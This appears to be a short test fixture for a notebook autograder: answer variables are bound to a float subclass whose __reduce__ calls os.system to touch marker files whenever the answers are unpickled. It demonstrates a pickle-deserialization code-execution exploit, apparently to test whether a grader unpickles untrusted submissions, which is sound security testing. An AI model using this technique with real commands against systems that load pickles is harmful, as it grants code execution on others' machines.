"""Binds answers whose __reduce__ runs a command wherever they are unpickled."""
# scores: loss 0, weights 0, bias 0, function 3, honest 1
# %% values
loss, weights, bias = 9.0, np.zeros(3), np.zeros(2)
class Bomb(float):
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/@TOKEN@-reduce; touch @COURSE@/pwned",)


loss = Bomb(9.0)
weights = np.array([Bomb(9.0)] * 3, dtype=object)
bias = Bomb(9.0)
